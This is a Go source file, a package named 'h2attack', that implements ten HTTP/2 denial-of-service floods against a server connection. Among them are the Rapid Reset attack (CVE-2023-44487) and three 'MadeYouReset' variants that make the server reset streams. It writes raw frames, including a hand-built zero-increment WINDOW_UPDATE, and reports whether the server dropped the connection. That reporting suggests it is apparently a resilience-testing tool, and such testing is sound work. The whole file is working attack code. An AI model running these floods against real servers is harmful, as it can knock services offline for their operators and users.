package h2attack

import (
	"bufio"
	"bytes"
	"context"
	"errors"
	"fmt"
	"net"
	"sync"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// Kind names a flood.
type Kind string

// The floods. Each frame written counts toward Flood's max; kinds that
// open streams write two frames per stream (HEADERS and the frame that
// gets the stream reset).
const (
	// Settings: SETTINGS frames (non-ACK, one setting each), each of which
	// the server must ACK.
	Settings Kind = "settings"
	// Ping: PING frames, each of which the server must answer.
	Ping Kind = "ping"
	// Priority: PRIORITY frames for ever new idle streams.
	Priority Kind = "priority"
	// WindowUpdateConn: WINDOW_UPDATE frames of increment 1 on the
	// connection.
	WindowUpdateConn Kind = "window-update-conn"
	// WindowUpdateStream: WINDOW_UPDATE frames of increment 1 on one open
	// stream.
	WindowUpdateStream Kind = "window-update-stream"
	// EmptyData: DATA frames with no payload and no END_STREAM on one open
	// stream (a POST whose body never comes).
	EmptyData Kind = "empty-data"
	// RapidReset: a request, then RST_STREAM (CANCEL) from the client
	// (CVE-2023-44487).
	RapidReset Kind = "rapid-reset"
	// ResetWindowZero: a request, then a WINDOW_UPDATE of increment 0 on
	// its stream, which the server answers with RST_STREAM (MadeYouReset).
	ResetWindowZero Kind = "madeyoureset-window-zero"
	// ResetWindowOverflow: a request, then a WINDOW_UPDATE that overflows
	// its stream's window: RST_STREAM FLOW_CONTROL_ERROR (MadeYouReset).
	ResetWindowOverflow Kind = "madeyoureset-window-overflow"
	// ResetClosedData: a request that ends its stream, then DATA on that
	// stream: RST_STREAM STREAM_CLOSED (MadeYouReset).
	ResetClosedData Kind = "madeyoureset-closed-data"
)

// Kinds lists every flood, in a fixed order.
func Kinds() []Kind {
	return []Kind{Settings, Ping, Priority, WindowUpdateConn, WindowUpdateStream, EmptyData,
		RapidReset, ResetWindowZero, ResetWindowOverflow, ResetClosedData}
}

// ParseKind returns the Kind named s.
func ParseKind(s string) (Kind, error) {
	for _, k := range Kinds() {
		if string(k) == s {
			return k, nil
		}
	}
	return "", fmt.Errorf("h2attack: unknown flood %q", s)
}

// ErrClosed is in the chain of Flood's error when the server closed the
// connection (or reset it) before the flood was over.
var ErrClosed = errors.New("h2attack: connection closed by the server")

var errExhausted = errors.New("h2attack: stream IDs exhausted")

// GoAwayError is in the chain of Flood's error when the server sent
// GOAWAY before closing.
type GoAwayError struct {
	Code http2.ErrCode
}

func (e *GoAwayError) Error() string { return "h2attack: server sent GOAWAY " + e.Code.String() }

// Unwrap makes a GOAWAY match ErrClosed.
func (e *GoAwayError) Unwrap() error { return ErrClosed }

// Options shape the requests of kinds that open streams.
type Options struct {
	// Path of each request; "/" if empty.
	Path string
	// Authority (host) of each request; "localhost" if empty.
	Authority string
	// Scheme of each request; "https" if empty.
	Scheme string
}

// Flood speaks HTTP/2 on conn (after TLS with ALPN "h2", or cleartext h2c
// with prior knowledge): it writes the client preface and SETTINGS, then
// up to max frames of kind, reading and discarding what the server sends,
// then a PING, and waits for its answer. It returns the number of flood frames written and:
//   - nil if all max frames were written and the server answered the
//     PING after them (so it read them all and kept the connection);
//   - an error wrapping ErrClosed (and a *GoAwayError if the server said
//     GOAWAY) if the server closed the connection first;
//   - an error wrapping ctx.Err() if ctx ended first;
//   - another error if the kind is unknown.
//
// Flood closes conn before it returns.
func Flood(ctx context.Context, conn net.Conn, kind Kind, max int) (int, error) {
	return FloodWith(ctx, conn, kind, max, Options{})
}

// FloodWith is Flood with request options.
func FloodWith(ctx context.Context, conn net.Conn, kind Kind, max int, o Options) (sent int, err error) {
	defer conn.Close()
	if _, err := ParseKind(string(kind)); err != nil {
		return 0, err
	}
	stop := context.AfterFunc(ctx, func() { conn.SetDeadline(time.Now()) })
	defer stop()

	r := newReader(conn)
	go r.run()
	defer func() {
		if err == nil || ctx.Err() != nil || errors.Is(err, errExhausted) {
			conn.Close()
			<-r.done
			if err != nil && ctx.Err() != nil {
				err = fmt.Errorf("h2attack: %s flood stopped after %d frames: %w", kind, sent, ctx.Err())
			}
			return
		}
		// The server went away: let the reader take what it sent last
		// (a GOAWAY), boundedly, in case only one direction broke.
		conn.SetReadDeadline(time.Now().Add(2 * time.Second))
		<-r.done
		conn.Close()
		if err == ErrClosed {
			err = fmt.Errorf("h2attack: %s flood stopped after %d frames: %w", kind, sent, r.closedErr())
		} else {
			err = fmt.Errorf("h2attack: %s flood stopped after %d frames: %w (%v)", kind, sent, r.closedErr(), err)
		}
	}()

	bw := bufio.NewWriterSize(conn, 64<<10)
	w := &writer{bw: bw, fr: http2.NewFramer(bw, nil), o: o.withDefaults()}
	if err := w.start(); err != nil {
		return 0, err
	}
	if err := w.prepare(kind); err != nil {
		return 0, err
	}
	for sent < max {
		if sent%256 == 0 {
			if r.closed() {
				return sent, ErrClosed
			}
			if err := ctx.Err(); err != nil {
				return sent, err
			}
		}
		n, err := w.frame(kind, max-sent)
		sent += n
		if err != nil {
			return sent, err
		}
		if n == 0 {
			break // no room for a stream's two frames
		}
	}
	// A PING answered after the flood means the server read every frame
	// and kept the connection.
	if err := w.fr.WritePing(false, lastPing); err != nil {
		return sent, err
	}
	if err := bw.Flush(); err != nil {
		return sent, err
	}
	select {
	case <-r.pong:
		return sent, nil
	case <-r.done:
		return sent, ErrClosed
	case <-ctx.Done():
		return sent, ctx.Err()
	}
}

// lastPing is the data of the PING that ends a flood (flood PINGs count up
// from 1 and never reach it).
var lastPing = [8]byte{0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff}

// writer writes the client's frames, buffered.
type writer struct {
	bw     *bufio.Writer
	fr     *http2.Framer
	o      Options
	block  []byte // the HPACK block of one request
	stream uint32 // the last stream opened
	n      uint32 // a counter for PING data and PRIORITY streams
}

func (o Options) withDefaults() Options {
	if o.Path == "" {
		o.Path = "/"
	}
	if o.Authority == "" {
		o.Authority = "localhost"
	}
	if o.Scheme == "" {
		o.Scheme = "https"
	}
	return o
}

func (w *writer) start() error {
	if _, err := w.bw.WriteString(http2.ClientPreface); err != nil {
		return err
	}
	if err := w.fr.WriteSettings(); err != nil {
		return err
	}
	return w.bw.Flush()
}

func (w *writer) requestBlock(method string) []byte {
	var buf bytes.Buffer
	enc := hpack.NewEncoder(&buf)
	for _, f := range []hpack.HeaderField{
		{Name: ":method", Value: method}, {Name: ":scheme", Value: w.o.Scheme},
		{Name: ":authority", Value: w.o.Authority}, {Name: ":path", Value: w.o.Path},
	} {
		enc.WriteField(f) // writes to a bytes.Buffer cannot fail
	}
	return buf.Bytes()
}

// open starts a request on a new stream.
func (w *writer) open(endStream bool) error {
	if w.stream == 0 {
		w.stream = 1
	} else {
		w.stream += 2
	}
	if w.stream >= 1<<31 {
		return errExhausted
	}
	return w.fr.WriteHeaders(http2.HeadersFrameParam{
		StreamID: w.stream, BlockFragment: w.block, EndStream: endStream, EndHeaders: true,
	})
}

// prepare opens the stream that one-stream kinds flood.
func (w *writer) prepare(kind Kind) error {
	switch kind {
	case WindowUpdateStream, EmptyData:
		w.block = w.requestBlock("POST")
		if err := w.open(false); err != nil {
			return err
		}
		return w.bw.Flush()
	default:
		w.block = w.requestBlock("GET")
	}
	return nil
}

// frame writes the next frame (or frames) of kind, at most room, and
// returns how many it wrote: 0 if room is too small.
func (w *writer) frame(kind Kind, room int) (int, error) {
	w.n++
	switch kind {
	case Settings:
		return 1, w.fr.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 65535 + w.n%2})
	case Ping:
		var data [8]byte
		data[0], data[1], data[2], data[3] = byte(w.n>>24), byte(w.n>>16), byte(w.n>>8), byte(w.n)
		return 1, w.fr.WritePing(false, data)
	case Priority:
		// Idle streams far above any the flood opens.
		id := (w.n*2 + 1) & (1<<31 - 1)
		return 1, w.fr.WritePriority(id, http2.PriorityParam{StreamDep: 0, Weight: 15})
	case WindowUpdateConn:
		return 1, w.fr.WriteWindowUpdate(0, 1)
	case WindowUpdateStream:
		return 1, w.fr.WriteWindowUpdate(w.stream, 1)
	case EmptyData:
		return 1, w.fr.WriteData(w.stream, false, nil)
	}
	if room < 2 {
		return 0, nil
	}
	switch kind {
	case RapidReset:
		if err := w.open(true); err != nil {
			return 0, err
		}
		return 2, w.fr.WriteRSTStream(w.stream, http2.ErrCodeCancel)
	case ResetWindowZero:
		if err := w.open(true); err != nil {
			return 0, err
		}
		// x/net's Framer refuses to write a zero increment: write the
		// frame's bytes.
		return 2, w.fr.WriteRawFrame(http2.FrameWindowUpdate, 0, w.stream, []byte{0, 0, 0, 0})
	case ResetWindowOverflow:
		if err := w.open(true); err != nil {
			return 0, err
		}
		return 2, w.fr.WriteWindowUpdate(w.stream, 1<<31-1)
	case ResetClosedData:
		if err := w.open(true); err != nil {
			return 0, err
		}
		return 2, w.fr.WriteData(w.stream, false, []byte{0})
	}
	return 0, fmt.Errorf("h2attack: unknown flood %q", kind)
}

// reader reads and discards the server's frames until the connection
// ends, noting a GOAWAY.
type reader struct {
	fr   *http2.Framer
	done chan struct{}
	pong chan struct{} // closed when the last PING is answered

	mu     sync.Mutex
	goAway *GoAwayError
}

func newReader(conn net.Conn) *reader {
	fr := http2.NewFramer(nil, bufio.NewReaderSize(conn, 64<<10))
	fr.SetMaxReadFrameSize(1<<24 - 1)
	return &reader{fr: fr, done: make(chan struct{}), pong: make(chan struct{})}
}

func (r *reader) run() {
	defer close(r.done)
	pong := false
	for {
		f, err := r.fr.ReadFrame()
		if err != nil {
			var se http2.StreamError
			if errors.As(err, &se) {
				continue // a frame the Framer rejects but can skip
			}
			return
		}
		switch f := f.(type) {
		case *http2.GoAwayFrame:
			r.mu.Lock()
			r.goAway = &GoAwayError{Code: f.ErrCode}
			r.mu.Unlock()
		case *http2.PingFrame:
			if f.IsAck() && f.Data == lastPing && !pong {
				pong = true
				close(r.pong)
			}
		}
	}
}

func (r *reader) closed() bool {
	select {
	case <-r.done:
		return true
	default:
		return false
	}
}

// closedErr is ErrClosed, or the GOAWAY that came before it.
func (r *reader) closedErr() error {
	r.mu.Lock()
	defer r.mu.Unlock()
	if r.goAway != nil {
		return r.goAway
	}
	return ErrClosed
}
